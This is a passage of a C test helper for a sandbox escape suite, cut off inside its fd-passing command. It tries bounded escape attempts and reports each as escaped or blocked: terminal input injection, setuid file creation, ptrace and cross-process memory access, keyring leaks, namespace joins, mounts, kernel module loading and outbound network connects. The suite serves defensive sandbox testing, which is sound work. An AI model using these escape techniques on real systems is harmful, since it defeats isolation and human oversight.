/* SPDX-License-Identifier: MIT */
/*
 * esc-helper: the attacks of the escape suite that a shell cannot spell. The suite compiles it
 * statically at test start (so that it runs inside the sandbox's read-only view without any
 * library) and copies it into the run's workdir.
 *
 * Every attempt prints one line:
 *   "<what>: ESCAPED <detail>"  the attack worked (the suite fails on this word), or
 *   "<what>: blocked <ERRNO>"   the kernel refused it, with the errno's name.
 * The exit status is 1 when anything escaped, 0 otherwise, 2 on a usage error.
 *
 * The attacks are real but bounded, so that running them without a sandbox (to check that the
 * suite detects them) does not damage the machine: the fork bomb stops at a count, the memory
 * bomb at a size, forked children die with their parent.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <dirent.h>
#include <linux/bpf.h>
#include <linux/if_alg.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/mount.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <linux/tiocl.h>
#include <linux/userfaultfd.h>
#include <linux/vm_sockets.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/personality.h>
#include <sys/resource.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static int escaped;

static void esc(const char *what, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void esc(const char *what, const char *fmt, ...)
{
	va_list ap;

	printf("%s: ESCAPED ", what);
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	printf("\n");
	fflush(stdout);
	escaped = 1;
}

static void blocked(const char *what, int err)
{
	const char *n = strerrorname_np(err);

	printf("%s: blocked %s\n", what, n ? n : "?");
	fflush(stdout);
}

/* Report a syscall's result: >= 0 is an escape, -1 is blocked with errno. */
static void report(const char *what, long rc)
{
	if (rc >= 0)
		esc(what, "(returned %ld)", rc);
	else
		blocked(what, errno);
}

/* ---- terminal injection ------------------------------------------------------------------ */

/* ioctl with the full 64-bit request, so that junk in the upper half reaches the filter. */
static long ioctl64(int fd, unsigned long req, void *arg)
{
	return syscall(SYS_ioctl, fd, req, arg);
}

static void tty_target(const char *name, int fd, unsigned long cmd, const char *text)
{
	char what[128];

	snprintf(what, sizeof(what), "%s %s%s", name,
		 (cmd & 0xffffffffUL) == TIOCSTI ? "TIOCSTI" : "TIOCLINUX",
		 cmd >> 32 ? "|high" : "");
	if ((cmd & 0xffffffffUL) == TIOCSTI) {
		long rc = 0;

		for (const char *p = text; *p && rc == 0; p++)
			rc = ioctl64(fd, cmd, (void *)p);
		report(what, rc);
	} else {
		char sub[2] = { TIOCL_GETSHIFTSTATE, 0 };

		report(what, ioctl64(fd, cmd, sub));
	}
}

/* ---- setuid/setgid bits on files the run leaves behind ----------------------------------- */

/* After an attempt: ESCAPED if `name` now carries a setuid or setgid bit. */
static void setid_check(const char *what, const char *name, long rc, int err)
{
	struct stat st;

	if (stat(name, &st) == 0 && (st.st_mode & (S_ISUID | S_ISGID)))
		esc(what, "%s has mode %04o", name, (unsigned)(st.st_mode & 07777));
	else if (rc < 0)
		blocked(what, err);
	else
		printf("%s: blocked (no bit; returned %ld)\n", what, rc);
}

#define SETID_TRY(what, name, call)                                                                \
	do {                                                                                       \
		errno = 0;                                                                         \
		long _rc = (long)(call);                                                           \
		int _err = errno;                                                                  \
		if (_rc > 2) /* an fd of the open family */                                        \
			close((int)_rc);                                                           \
		setid_check(what, name, _rc, _err);                                                \
	} while (0)

/* setid: every call that takes a mode, with 04755 / 02775, in the current directory. */
static int cmd_setid(void)
{
	int fd;

	SETID_TRY("open", "s_open", syscall(SYS_open, "s_open", O_CREAT | O_WRONLY, 04755));
	SETID_TRY("openat", "s_openat",
		  syscall(SYS_openat, AT_FDCWD, "s_openat", O_CREAT | O_WRONLY, 02755));
	SETID_TRY("creat", "s_creat", syscall(SYS_creat, "s_creat", 04755));
	SETID_TRY("mkdir", "s_mkdir", syscall(SYS_mkdir, "s_mkdir", 02775));
	SETID_TRY("mkdirat", "s_mkdirat", syscall(SYS_mkdirat, AT_FDCWD, "s_mkdirat", 04775));
	SETID_TRY("mknod", "s_mknod", syscall(SYS_mknod, "s_mknod", S_IFREG | 04755, 0));
	SETID_TRY("mknodat", "s_mknodat",
		  syscall(SYS_mknodat, AT_FDCWD, "s_mknodat", S_IFIFO | 02755, 0));
	fd = open("s_plain", O_CREAT | O_WRONLY | O_CLOEXEC, 0755);
	SETID_TRY("chmod", "s_plain", syscall(SYS_chmod, "s_plain", 04755));
	SETID_TRY("chmod|high", "s_plain", syscall(SYS_chmod, "s_plain", 0xffff000000004755UL));
	SETID_TRY("fchmod", "s_plain", syscall(SYS_fchmod, fd, 02755));
	SETID_TRY("fchmodat", "s_plain", syscall(SYS_fchmodat, AT_FDCWD, "s_plain", 06755));
	SETID_TRY("fchmodat2", "s_plain", syscall(452, AT_FDCWD, "s_plain", 04755, 0));
	/* openat2: the mode is in a struct the filter cannot read; it must not work at all. */
	{
		struct {
			uint64_t flags, mode, resolve;
		} how = { .flags = O_CREAT | O_WRONLY, .mode = 04755 };

		SETID_TRY("openat2", "s_openat2",
			  syscall(SYS_openat2, AT_FDCWD, "s_openat2", &how, sizeof(how)));
	}
	/* O_TMPFILE with the bit, then given a name. */
	{
		long t = syscall(SYS_open, ".", O_TMPFILE | O_WRONLY, 04755);
		char proc[64];

		if (t >= 0) {
			snprintf(proc, sizeof(proc), "/proc/self/fd/%ld", t);
			(void)linkat(AT_FDCWD, proc, AT_FDCWD, "s_tmpfile", AT_SYMLINK_FOLLOW);
			close((int)t);
		}
		setid_check("O_TMPFILE", "s_tmpfile", t, errno);
	}
	if (fd >= 0)
		close(fd);
	printf("setid_done\n");
	return escaped;
}

/* tty sti|linux plain|high TEXT: inject on /dev/tty, the consoles and fds 0-2. */
static int cmd_tty(int argc, char **argv)
{
	static const char *const devs[] = { "/dev/tty", "/dev/tty0", "/dev/tty1", "/dev/console" };
	unsigned long cmd;

	if (argc < 3)
		return 2;
	cmd = !strcmp(argv[0], "sti") ? TIOCSTI : TIOCLINUX;
	if (!strcmp(argv[1], "high"))
		cmd |= 0xdead000000000000UL;
	for (int fd = 0; fd < 3; fd++) {
		char name[16];

		snprintf(name, sizeof(name), "fd%d", fd);
		tty_target(name, fd, cmd, argv[2]);
	}
	for (size_t i = 0; i < sizeof(devs) / sizeof(devs[0]); i++) {
		int fd = open(devs[i], O_RDWR | O_NOCTTY | O_CLOEXEC);

		if (fd < 0) {
			char what[64];

			snprintf(what, sizeof(what), "open %s", devs[i]);
			blocked(what, errno);
			continue;
		}
		tty_target(devs[i], fd, cmd, argv[2]);
		close(fd);
	}
	return escaped;
}

/* notty: the command must have no controlling terminal. */
static int cmd_notty(void)
{
	char buf[1024], *p;
	int fd = open("/dev/tty", O_RDWR | O_CLOEXEC), ttynr = -1;
	FILE *f;

	if (fd >= 0)
		esc("open /dev/tty", "(a controlling terminal is reachable)");
	else
		blocked("open /dev/tty", errno);
	f = fopen("/proc/self/stat", "r");
	if (f && fgets(buf, sizeof(buf), f) && (p = strrchr(buf, ')')))
		sscanf(p + 2, "%*c %*d %*d %*d %d", &ttynr);
	if (f)
		fclose(f);
	if (ttynr != 0)
		esc("stat tty_nr", "%d", ttynr);
	else
		printf("stat tty_nr: 0\n");
	return escaped;
}

/* ---- other processes ----------------------------------------------------------------------- */

static pid_t spawn_sleeper(void)
{
	pid_t p = fork();

	if (p == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		for (;;)
			pause();
	}
	return p;
}

/* ptrace PID: attach to a sibling; also PTRACE_TRACEME and attach to a forked child. */
static int cmd_ptrace(int argc, char **argv)
{
	pid_t target = argc > 0 ? atoi(argv[0]) : 0, kid;
	long rc;

	if (target > 0) {
		rc = ptrace(PTRACE_ATTACH, target, 0, 0);
		report("ptrace attach sibling", rc);
		if (rc == 0) {
			waitpid(target, NULL, __WALL);
			ptrace(PTRACE_DETACH, target, 0, 0);
		}
		rc = ptrace(PTRACE_SEIZE, target, 0, 0);
		report("ptrace seize sibling", rc);
		if (rc == 0)
			ptrace(PTRACE_DETACH, target, 0, 0);
	}
	kid = spawn_sleeper();
	rc = ptrace(PTRACE_ATTACH, kid, 0, 0);
	report("ptrace attach child", rc);
	kill(kid, SIGKILL);
	waitpid(kid, NULL, __WALL);
	kid = fork();
	if (kid == 0) {
		_exit(ptrace(PTRACE_TRACEME, 0, 0, 0) == 0 ? 0 : 10 + errno % 200);
	}
	if (waitpid(kid, (int *)&rc, 0) == kid && WIFEXITED(rc) && WEXITSTATUS(rc) == 0)
		esc("ptrace traceme", "(allowed)");
	else
		blocked("ptrace traceme", WIFEXITED(rc) ? WEXITSTATUS(rc) - 10 : 0);
	return escaped;
}

static volatile char vm_secret[32] = "vm-secret";

/* vm: read and write a sibling's memory (process_vm_*), steal its fd (pidfd_getfd). */
static int cmd_vm(void)
{
	char buf[32] = { 0 };
	struct iovec local = { buf, sizeof(buf) }, remote = { (void *)vm_secret, sizeof(buf) };
	pid_t kid = spawn_sleeper();
	long rc;
	int pfd;

	usleep(10000);
	rc = syscall(SYS_process_vm_readv, kid, &local, 1, &remote, 1, 0);
	report("process_vm_readv", rc);
	rc = syscall(SYS_process_vm_writev, kid, &local, 1, &remote, 1, 0);
	report("process_vm_writev", rc);
	pfd = (int)syscall(SYS_pidfd_open, kid, 0);
	if (pfd >= 0) {
		report("pidfd_getfd", syscall(SYS_pidfd_getfd, pfd, 0, 0));
		close(pfd);
	} else {
		blocked("pidfd_open", errno);
	}
	kill(kid, SIGKILL);
	waitpid(kid, NULL, 0);
	return escaped;
}

/* ---- keyrings ------------------------------------------------------------------------------ */

/* keys add TAG | keys find TAG */
static int cmd_keys(int argc, char **argv)
{
	static const struct {
		const char *name;
		int ring;
	} rings[] = { { "session", KEY_SPEC_SESSION_KEYRING },
		      { "user", KEY_SPEC_USER_KEYRING },
		      { "user-session", KEY_SPEC_USER_SESSION_KEYRING },
		      { "process", KEY_SPEC_PROCESS_KEYRING } };
	char what[96];

	if (argc < 2)
		return 2;
	if (!strcmp(argv[0], "add")) {
		long id;

		report("keyctl join session",
		       syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL));
		for (size_t i = 0; i < sizeof(rings) / sizeof(rings[0]); i++) {
			snprintf(what, sizeof(what), "add_key %s", rings[i].name);
			id = syscall(SYS_add_key, "user", argv[1], "key-payload", 11,
				     rings[i].ring);
			report(what, id);
			/* Without a sandbox the key must not outlive the check by long. */
			if (id >= 0)
				syscall(SYS_keyctl, KEYCTL_SET_TIMEOUT, id, 5);
		}
		report("request_key",
		       syscall(SYS_request_key, "user", argv[1], NULL, KEY_SPEC_SESSION_KEYRING));
		return escaped;
	}
	/* find: a key of this description anywhere this process can see. */
	for (size_t i = 0; i < sizeof(rings) / sizeof(rings[0]); i++) {
		long id = syscall(SYS_keyctl, KEYCTL_SEARCH, rings[i].ring, "user", argv[1], 0);

		snprintf(what, sizeof(what), "search %s", rings[i].name);
		if (id >= 0) {
			esc(what, "found key %ld", id);
			/* found means leaked: do not let it leak further */
			syscall(SYS_keyctl, KEYCTL_REVOKE, id);
		} else
			blocked(what, errno);
	}
	{
		FILE *f = fopen("/proc/keys", "r");
		char line[512];

		while (f && fgets(line, sizeof(line), f)) {
			char flags[16] = "";

			/* the second field holds the flags; R: revoked (already dealt with) */
			if (strstr(line, argv[1]) && sscanf(line, "%*x %15s", flags) == 1 &&
			    !strchr(flags, 'R'))
				esc("/proc/keys", "%.*s", (int)strcspn(line, "\n"), line);
		}
		if (f)
			fclose(f);
	}
	return escaped;
}

/* ---- kernel attack surface ------------------------------------------------------------------ */

static int cmd_bpf(void)
{
	union bpf_attr a;
	struct bpf_insn prog[2] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0 },
		{ .code = BPF_JMP | BPF_EXIT },
	};

	memset(&a, 0, sizeof(a));
	a.map_type = BPF_MAP_TYPE_ARRAY;
	a.key_size = 4;
	a.value_size = 4;
	a.max_entries = 1;
	report("bpf map_create", syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof(a)));
	memset(&a, 0, sizeof(a));
	a.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
	a.insns = (uintptr_t)prog;
	a.insn_cnt = 2;
	a.license = (uintptr_t) "GPL";
	report("bpf prog_load", syscall(SYS_bpf, BPF_PROG_LOAD, &a, sizeof(a)));
	return escaped;
}

static int cmd_io_uring(void)
{
	struct io_uring_params p;

	memset(&p, 0, sizeof(p));
	report("io_uring_setup", syscall(SYS_io_uring_setup, 4, &p));
	/* EBADF means the call reached io_uring; a filter answers EPERM first. */
	if (syscall(SYS_io_uring_enter, -1, 0, 0, 0, NULL, 0) == -1 && errno != EBADF)
		blocked("io_uring_enter", errno);
	else
		esc("io_uring_enter", "(reached io_uring: EBADF)");
	return escaped;
}

static int cmd_userfaultfd(void)
{
	int fd;

	report("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY));
	report("userfaultfd kernel", syscall(SYS_userfaultfd, O_CLOEXEC));
	fd = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
	if (fd >= 0) {
		report("/dev/userfaultfd new", ioctl(fd, USERFAULTFD_IOC_NEW, O_CLOEXEC));
		close(fd);
	} else {
		blocked("open /dev/userfaultfd", errno);
	}
	return escaped;
}

static int cmd_perf(void)
{
	struct perf_event_attr a;

	memset(&a, 0, sizeof(a));
	a.size = sizeof(a);
	a.type = PERF_TYPE_SOFTWARE;
	a.config = PERF_COUNT_SW_TASK_CLOCK;
	a.exclude_kernel = 1;
	a.exclude_hv = 1;
	report("perf_event_open self", syscall(SYS_perf_event_open, &a, 0, -1, -1, 0));
	a.type = PERF_TYPE_HARDWARE;
	a.config = PERF_COUNT_HW_INSTRUCTIONS;
	report("perf_event_open hw", syscall(SYS_perf_event_open, &a, 0, -1, -1, 0));
	return escaped;
}

/* In a child: run one namespace operation; the child's exit code carries the errno. */
static void ns_try(const char *what, int which, unsigned long flags)
{
	pid_t kid = fork();
	int st = 0;

	if (kid == 0) {
		long rc = -1;

		if (which == 0) {
			rc = syscall(SYS_unshare, flags);
		} else if (which == 1) {
			/* raw clone: the child returns 0 and exits at once */
			rc = syscall(SYS_clone, flags | SIGCHLD, NULL, NULL, NULL, NULL);
			if (rc == 0)
				_exit(0);
			if (rc > 0)
				waitpid((pid_t)rc, NULL, 0);
		} else {
			struct clone_args ca;

			memset(&ca, 0, sizeof(ca));
			ca.flags = flags;
			ca.exit_signal = SIGCHLD;
			rc = syscall(SYS_clone3, &ca, sizeof(ca));
			if (rc == 0)
				_exit(0);
			if (rc > 0)
				waitpid((pid_t)rc, NULL, 0);
		}
		_exit(rc >= 0 ? 0 : 10 + errno % 200);
	}
	waitpid(kid, &st, 0);
	if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
		esc(what, "(new namespace created)");
	else
		blocked(what, WIFEXITED(st) && WEXITSTATUS(st) >= 10 ? WEXITSTATUS(st) - 10 : 0);
}

/* userns: create user namespaces by every route, and other namespaces. */
static int cmd_userns(void)
{
	ns_try("unshare(NEWUSER)", 0, CLONE_NEWUSER);
	ns_try("clone(NEWUSER)", 1, CLONE_NEWUSER);
	ns_try("clone3(NEWUSER)", 2, CLONE_NEWUSER);
	ns_try("unshare(NEWUSER|NEWNS)", 0, CLONE_NEWUSER | CLONE_NEWNS);
	ns_try("unshare(NEWNS)", 0, CLONE_NEWNS);
	ns_try("unshare(NEWNET)", 0, CLONE_NEWNET);
	ns_try("clone3(NEWUSER|NEWPID)", 2, CLONE_NEWUSER | CLONE_NEWPID);
	return escaped;
}

/* setns: join the namespaces of every process this one can see. */
static int cmd_setns(void)
{
	static const char *const kinds[] = { "mnt", "net", "pid", "ipc", "uts", "cgroup", "user" };
	DIR *d = opendir("/proc");
	struct dirent *de;
	int tried = 0;

	while (d && (de = readdir(d)) && tried < 64) {
		if (de->d_name[0] < '0' || de->d_name[0] > '9')
			continue;
		for (size_t k = 0; k < sizeof(kinds) / sizeof(kinds[0]); k++) {
			char path[300], what[340];
			int fd;
			pid_t kid;
			int st = 0;

			snprintf(path, sizeof(path), "/proc/%s/ns/%s", de->d_name, kinds[k]);
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			tried++;
			snprintf(what, sizeof(what), "setns %s", path);
			kid = fork();
			if (kid == 0)
				_exit(setns(fd, 0) == 0 ? 0 : 10 + errno % 200);
			waitpid(kid, &st, 0);
			close(fd);
			if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
				esc(what, "(joined)");
			else
				blocked(what, WIFEXITED(st) && WEXITSTATUS(st) >= 10
						      ? WEXITSTATUS(st) - 10
						      : 0);
		}
	}
	if (d)
		closedir(d);
	printf("setns: %d namespace files tried\n", tried);
	return escaped;
}

/* mount DIR [UNMOUNT...]: the old and the new mount API, and unmounting masks. */
static int cmd_mount(int argc, char **argv)
{
	int fd;

	if (argc < 1)
		return 2;
	report("mount tmpfs", mount("esc", argv[0], "tmpfs", 0, "size=1m"));
	report("remount /usr rw", mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL));
	fd = (int)syscall(SYS_fsopen, "tmpfs", FSOPEN_CLOEXEC);
	report("fsopen", fd);
	if (fd >= 0)
		close(fd);
	fd = (int)syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
	report("open_tree clone /", fd);
	if (fd >= 0)
		close(fd);
	fd = (int)syscall(SYS_fspick, AT_FDCWD, "/", FSPICK_CLOEXEC);
	report("fspick /", fd);
	if (fd >= 0)
		close(fd);
	report("pivot_root", syscall(SYS_pivot_root, ".", "."));
	report("chroot", chroot("."));
	for (int i = 1; i < argc; i++) {
		char what[128];

		snprintf(what, sizeof(what), "umount %s", argv[i]);
		report(what, umount2(argv[i], MNT_DETACH));
	}
	return escaped;
}

/* modules: reaching the module loader or kexec at all is the escape (anything but EPERM). */
static int cmd_modules(void)
{
	static const struct {
		const char *what;
		long nr;
	} calls[] = { { "init_module", SYS_init_module },
		      { "finit_module", SYS_finit_module },
		      { "delete_module", SYS_delete_module },
		      { "kexec_file_load", SYS_kexec_file_load } };

	for (size_t i = 0; i < sizeof(calls) / sizeof(calls[0]); i++) {
		long rc;

		errno = 0;
		switch (i) {
		case 0:
			rc = syscall(calls[i].nr, NULL, 0, "");
			break;
		case 1:
			rc = syscall(calls[i].nr, -1, "", 0);
			break;
		case 2:
			rc = syscall(calls[i].nr, "cordon_esc_no_such_module", O_NONBLOCK);
			break;
		default:
			rc = syscall(calls[i].nr, -1, -1, 0, "", 0);
			break;
		}
		if (rc == -1 && errno == EPERM)
			blocked(calls[i].what, errno);
		else
			esc(calls[i].what, "(reached the kernel: rc %ld %s)", rc,
			    strerrorname_np(errno) ? strerrorname_np(errno) : "");
	}
	return escaped;
}

/* x32 and i386: a sandbox must kill the process; returning at all is the escape. */
static int cmd_abi(int argc, char **argv)
{
	long rc;

	if (argc < 1)
		return 2;
	if (!strcmp(argv[0], "x32")) {
		long nr = 0x40000000L | SYS_getpid;

		__asm__ volatile("syscall" : "=a"(rc) : "a"(nr) : "rcx", "r11", "memory");
	} else {
		/* int $0x80 with i386's getpid (20) */
		long nr = 20;

		__asm__ volatile("int $0x80"
				 : "=a"(rc)
				 : "a"(nr)
				 : "r8", "r9", "r10", "r11", "memory");
	}
	esc(argv[0], "(the syscall returned %ld; the process was not killed)", rc);
	return escaped;
}

static int cmd_personality(void)
{
	static const struct {
		const char *what;
		unsigned long p;
	} tries[] = {
		{ "ADDR_NO_RANDOMIZE", ADDR_NO_RANDOMIZE },
		{ "READ_IMPLIES_EXEC", READ_IMPLIES_EXEC },
		{ "PER_LINUX32", PER_LINUX32 },
		{ "MMAP_PAGE_ZERO", MMAP_PAGE_ZERO },
		{ "ADDR_NO_RANDOMIZE|high", 0x100000000UL | ADDR_NO_RANDOMIZE },
	};

	for (size_t i = 0; i < sizeof(tries) / sizeof(tries[0]); i++) {
		long rc = syscall(SYS_personality, tries[i].p);
		long now = syscall(SYS_personality, 0xffffffffUL);

		if (rc != -1 && now == (long)(tries[i].p & 0xffffffffUL))
			esc(tries[i].what, "(personality is now %#lx)", now);
		else
			blocked(tries[i].what, rc == -1 ? errno : 0);
		syscall(SYS_personality, 0UL);
	}
	return escaped;
}

/* ---- sockets ----------------------------------------------------------------------------- */

static void sock_try(const char *what, unsigned long family, int type, int proto)
{
	long fd = syscall(SYS_socket, family, type | SOCK_CLOEXEC, proto);

	report(what, fd);
	if (fd >= 0)
		close((int)fd);
}

static int cmd_sockets(int argc, char **argv)
{
	const char *set = argc > 0 ? argv[0] : "all";
	int all = !strcmp(set, "all");

	if (all || !strcmp(set, "vsock")) {
		long fd = syscall(SYS_socket, AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);

		report("AF_VSOCK", fd);
		if (fd >= 0) {
			struct sockaddr_vm a = { .svm_family = AF_VSOCK,
						 .svm_cid = VMADDR_CID_HOST,
						 .svm_port = 1024 };

			connect((int)fd, (struct sockaddr *)&a, sizeof(a));
			close((int)fd);
		}
		sock_try("AF_VSOCK|high", 0x100000000UL | AF_VSOCK, SOCK_STREAM, 0);
		sock_try("AF_VSOCK dgram", AF_VSOCK, SOCK_DGRAM, 0);
	}
	if (all || !strcmp(set, "raw")) {
		sock_try("AF_PACKET raw", AF_PACKET, SOCK_RAW, htons(0x0003));
		sock_try("AF_PACKET dgram", AF_PACKET, SOCK_DGRAM, htons(0x0003));
		sock_try("AF_INET raw icmp", AF_INET, SOCK_RAW, IPPROTO_ICMP);
		sock_try("AF_INET raw tcp", AF_INET, SOCK_RAW, IPPROTO_TCP);
		sock_try("AF_INET6 raw", AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
	}
	if (all || !strcmp(set, "exotic")) {
		sock_try("AF_NETLINK audit", AF_NETLINK, SOCK_RAW, NETLINK_AUDIT);
		sock_try("AF_NETLINK uevent", AF_NETLINK, SOCK_DGRAM, NETLINK_KOBJECT_UEVENT);
		sock_try("AF_NETLINK netfilter", AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER);
		sock_try("AF_NETLINK xfrm", AF_NETLINK, SOCK_RAW, NETLINK_XFRM);
		sock_try("AF_NETLINK generic", AF_NETLINK, SOCK_RAW, NETLINK_GENERIC);
		sock_try("AF_ALG", AF_ALG, SOCK_SEQPACKET, 0);
		sock_try("AF_KEY", AF_KEY, SOCK_RAW, 2 /* PF_KEY_V2 */);
		sock_try("AF_XDP", AF_XDP, SOCK_RAW, 0);
		sock_try("AF_TIPC", AF_TIPC, SOCK_RDM, 0);
		sock_try("AF_BLUETOOTH", AF_BLUETOOTH, SOCK_RAW, 0);
		sock_try("AF_CAN", AF_CAN, SOCK_RAW, 1);
		sock_try("AF_APPLETALK", AF_APPLETALK, SOCK_DGRAM, 0);
		sock_try("AF_RDS", AF_RDS, SOCK_SEQPACKET, 0);
	}
	if (all || !strcmp(set, "pairs")) {
		/* socketpair of a family without pairs still runs the family's create code
		 * (EOPNOTSUPP, ENODEV come from there): only EPERM means it was refused first. */
		static const struct {
			const char *what;
			unsigned long family;
			int type, proto;
		} pairs[] = {
			{ "socketpair AF_VSOCK", AF_VSOCK, SOCK_STREAM, 0 },
			{ "socketpair AF_VSOCK dgram", AF_VSOCK, SOCK_DGRAM, 0 },
			{ "socketpair AF_NETLINK audit", AF_NETLINK, SOCK_RAW, NETLINK_AUDIT },
			{ "socketpair AF_NETLINK uevent", AF_NETLINK, SOCK_DGRAM,
			  NETLINK_KOBJECT_UEVENT },
			{ "socketpair AF_INET", AF_INET, SOCK_STREAM, 0 },
			{ "socketpair AF_PACKET", AF_PACKET, SOCK_RAW, 0 },
			{ "socketpair AF_VSOCK|high", 0x100000000UL | AF_VSOCK, SOCK_STREAM, 0 },
		};

		for (size_t i = 0; i < sizeof(pairs) / sizeof(pairs[0]); i++) {
			int sv[2];
			long r = syscall(SYS_socketpair, pairs[i].family,
					 pairs[i].type | SOCK_CLOEXEC, pairs[i].proto, sv);

			if (r == 0) {
				esc(pairs[i].what, "(a pair made)");
				close(sv[0]);
				close(sv[1]);
			} else if (errno != EPERM && errno != EAFNOSUPPORT) {
				esc(pairs[i].what, "(the family's code ran: %s)",
				    strerrorname_np(errno));
			} else {
				blocked(pairs[i].what, errno);
			}
		}
	}
	return escaped;
}

/* Watching the host's files through the read-only binds, and memory the kernel cannot see. */
static int cmd_watch(void)
{
	long fd = syscall(SYS_fanotify_init, 0x00000000 /* FAN_CLASS_NOTIF */, 0);

	report("fanotify_init", fd);
	if (fd >= 0)
		close((int)fd);
	fd = syscall(447 /* memfd_secret */, 0);
	if (fd < 0 && errno == ENOSYS)
		blocked("memfd_secret", errno); /* a kernel without secretmem */
	else
		report("memfd_secret", fd);
	if (fd >= 0)
		close((int)fd);
	return escaped;
}

static int connect_timeout(int fd, const struct sockaddr *a, socklen_t len, int ms)
{
	struct timeval tv = { ms / 1000, (ms % 1000) * 1000 };

	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
	return connect(fd, a, len);
}

/* tcp IP PORT: connect; a connection is the escape. */
static int cmd_tcp(int argc, char **argv)
{
	struct sockaddr_storage ss;
	socklen_t len;
	char what[128];
	int fd;

	if (argc < 2)
		return 2;
	memset(&ss, 0, sizeof(ss));
	if (strchr(argv[0], ':')) {
		struct sockaddr_in6 *a = (struct sockaddr_in6 *)&ss;

		a->sin6_family = AF_INET6;
		a->sin6_port = htons((uint16_t)atoi(argv[1]));
		inet_pton(AF_INET6, argv[0], &a->sin6_addr);
		len = sizeof(*a);
	} else {
		struct sockaddr_in *a = (struct sockaddr_in *)&ss;

		a->sin_family = AF_INET;
		a->sin_port = htons((uint16_t)atoi(argv[1]));
		inet_pton(AF_INET, argv[0], &a->sin_addr);
		len = sizeof(*a);
	}
	snprintf(what, sizeof(what), "tcp connect %s:%s", argv[0], argv[1]);
	fd = socket(ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0) {
		blocked(what, errno);
		return escaped;
	}
	if (connect_timeout(fd, (struct sockaddr *)&ss, len, 2000) == 0) {
		esc(what, "(connected)");
		if (write(fd, "esc\n", 4) < 0)
			perror("write");
	} else {
		blocked(what, errno);
	}
	close(fd);
	return escaped;
}

/* udp IP PORT: a datagram leaving through a real interface is the escape. */
static int cmd_udp(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	char what[128];
	int fd;

	if (argc < 2)
		return 2;
	a.sin_port = htons((uint16_t)atoi(argv[1]));
	inet_pton(AF_INET, argv[0], &a.sin_addr);
	snprintf(what, sizeof(what), "udp sendto %s:%s", argv[0], argv[1]);
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0) {
		blocked(what, errno);
		return escaped;
	}
	/* a DNS query for "cordon.invalid", type A */
	static const unsigned char q[] = { 0x12, 0x34, 1,   0,	 0,   1,   0,	0,   0, 0,   0,
					   0,	 6,    'c', 'o', 'r', 'd', 'o', 'n', 7, 'i', 'n',
					   'v',	 'a',  'l', 'i', 'd', 0,   0,	1,   0, 1 };
	report(what, sendto(fd, q, sizeof(q), 0, (struct sockaddr *)&a, sizeof(a)));
	close(fd);
	return escaped;
}

/* unix PATH|@ABSTRACT: connect; a connection is the escape. */
static int cmd_unix(int argc, char **argv)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	socklen_t len;
	char what[160];
	int fd;

	if (argc < 1)
		return 2;
	if (argv[0][0] == '@') {
		size_t n = strlen(argv[0] + 1);

		memcpy(a.sun_path + 1, argv[0] + 1, n);
		len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n);
	} else {
		snprintf(a.sun_path, sizeof(a.sun_path), "%s", argv[0]);
		len = sizeof(a);
	}
	snprintf(what, sizeof(what), "unix connect %s", argv[0]);
	fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0) {
		blocked(what, errno);
		return escaped;
	}
	if (connect_timeout(fd, (struct sockaddr *)&a, len, 2000) == 0)
		esc(what, "(connected)");
	else
		blocked(what, errno);
	close(fd);
	return escaped;
}

/*
 * fdpass hold SOCK DELAY_MS TEXT: listen on the path SOCK; for each connection, take the fds
 * it sends and, DELAY_MS later, write TEXT to each of them, then keep them open (a child per
 * connection, dying with us).
 * fdpass give SOCK BYTES: send our stdout and stderr to SOCK, then write BYTES to stdout (a
 * flood makes cordon read it on a thread of its own) and exit: the write ends of the run's
 * output pipes now live on in another run, which a shared workdir's socket reaches.
 * fdpass give SOCK 0 stdin: send our stdin instead, and exit.
 * fdpass steal SOCK MS: as hold, but read each fd it is sent for up to MS ms and print what
 * came (`fdpass: read ...`): the caller's input after the giver's run ended.
 */
static int cmd_fdpass(int argc, char **argv)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	union {
		struct cmsghdr h;
		char buf[CMSG_SPACE(8 * sizeof(int))];
	} u;
	char byte = 'x';
	struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1 };
	int fd;

	if (argc < 3)
		return 2;
